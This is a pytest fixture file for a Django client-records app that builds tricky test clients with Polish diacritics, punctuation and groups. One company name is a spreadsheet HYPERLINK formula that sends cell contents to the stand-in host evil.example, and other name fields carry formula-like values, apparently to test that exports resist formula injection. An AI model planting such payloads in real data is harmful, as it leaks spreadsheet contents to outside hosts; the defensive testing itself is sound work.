import datetime as dt
from zoneinfo import ZoneInfo

import pytest

from kartoteka.clients.tests.factories import ClientFactory, ClientGroupFactory, LabelFactory

POLISH = "Zażółć Gęślą Jaźń"  # every Polish diacritic, upper and lower case, in a name
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")'


@pytest.fixture(autouse=True)
def _files_and_language(settings, tmp_path):
    settings.KARTOTEKA_JOB_FILES_DIR = tmp_path / "job-files"
    settings.LANGUAGE_CODE = "en"


@pytest.fixture
def tricky_clients(db):
    """A Polish name, a company with a formula for a name, commas and semicolons, groups and labels."""
    vip = ClientGroupFactory(name="VIP")
    north = ClientGroupFactory(name="Północ")
    label = LabelFactory(name="Ważny")
    created = dt.datetime(2026, 3, 14, 15, 9, tzinfo=ZoneInfo("Europe/Warsaw"))
    polish = ClientFactory(
        first_name="Łucja",
        last_name=POLISH,
        company_name="",
        email="lucja@example.pl",
        phone="+48600123456",
        nip="5260250274",
        street="ul. Źródlana 7; lok. 3, piętro 2",
        postal_code="00-950",
        city="Łódź",
        groups=[vip, north],
        labels=[label],
    )
    company = ClientFactory(
        first_name="Ósemka",
        last_name="",
        company_name=FORMULA,
        email="biuro@example.pl",
        phone="",
        city="Kraków",
        street="",
        postal_code="",
    )
    minus = ClientFactory(first_name="-2+3", last_name="@SUM(1)", email="x@example.pl", phone="+441234567890")
    from kartoteka.clients.models import Client

    Client.objects.filter(pk=polish.pk).update(created_at=created)
    return [polish, company, minus]
